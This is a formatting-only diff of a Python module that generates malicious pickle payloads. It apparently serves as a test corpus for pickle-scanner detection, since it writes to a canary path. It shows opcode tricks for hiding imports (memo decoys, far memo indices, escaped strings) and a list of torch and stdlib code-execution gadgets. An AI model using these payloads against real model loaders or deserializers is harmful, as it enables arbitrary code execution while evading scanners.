@@ -26,9 +26,7 @@ def arguments(values: tuple[object, ...]) -> bytes:
 
 
 def by_global(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
-    return (
-        b"\x80\x02" + f"c{module}\n{attribute}\n".encode() + arguments(values) + b"R."
-    )
+    return b"\x80\x02" + f"c{module}\n{attribute}\n".encode() + arguments(values) + b"R."
 
 
 def by_text_protocol(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
@@ -42,9 +40,7 @@ def by_stack(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
 def by_memo(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
     """The texts are kept first and recalled when they are needed, with something harmless between."""
     kept = text(module) + b"\x94" + text(attribute) + b"\x94" + b"00"
-    decoy = (
-        text("collections") + b"\x94" + text("OrderedDict") + b"\x94" + b"\x93" + b")R0"
-    )
+    decoy = text("collections") + b"\x94" + text("OrderedDict") + b"\x94" + b"\x93" + b")R0"
     return PROTO4 + kept + decoy + b"h\x00h\x01\x93" + arguments(values) + b"R."
 
 
@@ -53,31 +49,13 @@ def by_far_memo(module: str, attribute: str, values: tuple[object, ...]) -> byte
     put = b"r" + struct.pack("<I", 70_000) + b"0"
     other = b"r" + struct.pack("<I", 5) + b"0"
     get = b"j" + struct.pack("<I", 70_000)
-    return (
-        PROTO4
-        + text(module)
-        + put
-        + text(attribute)
-        + other
-        + get
-        + b"h\x05\x93"
-        + arguments(values)
-        + b"R."
-    )
+    return PROTO4 + text(module) + put + text(attribute) + other + get + b"h\x05\x93" + arguments(values) + b"R."
 
 
 def by_copies(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
     """DUP, POP and a mark that is thrown away between the two texts."""
     return (
-        PROTO4
-        + text(module)
-        + b"20"
-        + b"(K\x01K\x021"
-        + text(attribute)
-        + b"N0"
-        + b"\x93"
-        + arguments(values)
-        + b"R."
+        PROTO4 + text(module) + b"20" + b"(K\x01K\x021" + text(attribute) + b"N0" + b"\x93" + arguments(values) + b"R."
     )
 
 
@@ -92,24 +70,13 @@ def by_obj(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
 
 
 def by_new(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
-    return (
-        PROTO4 + text(module) + text(attribute) + b"\x93" + arguments(values) + b"\x81."
-    )
+    return PROTO4 + text(module) + text(attribute) + b"\x93" + arguments(values) + b"\x81."
 
 
 def by_escapes(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
     """Texts of protocol 0 whose letters are written as numbers."""
-    written = (
-        "".join(f"\\u{ord(each):04x}" for each in module),
-        "".join(f"\\x{ord(each):02x}" for each in attribute),
-    )
-    return (
-        PROTO4
-        + f"V{written[0]}\nS'{written[1]}'\n".encode()
-        + b"\x93"
-        + arguments(values)
-        + b"R."
-    )
+    written = "".join(f"\\u{ord(each):04x}" for each in module), "".join(f"\\x{ord(each):02x}" for each in attribute)
+    return PROTO4 + f"V{written[0]}\nS'{written[1]}'\n".encode() + b"\x93" + arguments(values) + b"R."
 
 
 def by_framed(module: str, attribute: str, values: tuple[object, ...]) -> bytes:
@@ -249,11 +216,7 @@ GADGETS: tuple[tuple[str, str, tuple[object, ...]], ...] = (
     ("dataclasses", "_create_fn", ()),
     ("torch.jit.unsupported_tensor_ops", "execWrapper", (SOURCE, {}, {})),
     ("torch._dynamo.guards", "GuardBuilder.get", ()),
-    (
-        "torch.fx.experimental.symbolic_shapes",
-        "ShapeEnv.evaluate_guards_expression",
-        (),
-    ),
+    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ()),
     ("torch.fx.graph_module", "reduce_graph_module", ({}, "")),
     ("torch._inductor.codecache", "compile_file", ()),
     ("torch.utils.cpp_extension", "load_inline", ()),
@@ -389,8 +352,6 @@ GADGETS: tuple[tuple[str, str, tuple[object, ...]], ...] = (
 def filled(values: tuple[object, ...], canary: str) -> tuple[object, ...]:
     """The arguments with the path of the canary in them."""
     return tuple(
-        value.replace("{canary!r}", repr(canary)).replace("{canary}", canary)
-        if isinstance(value, str)
-        else value
+        value.replace("{canary!r}", repr(canary)).replace("{canary}", canary) if isinstance(value, str) else value
         for value in values
     )
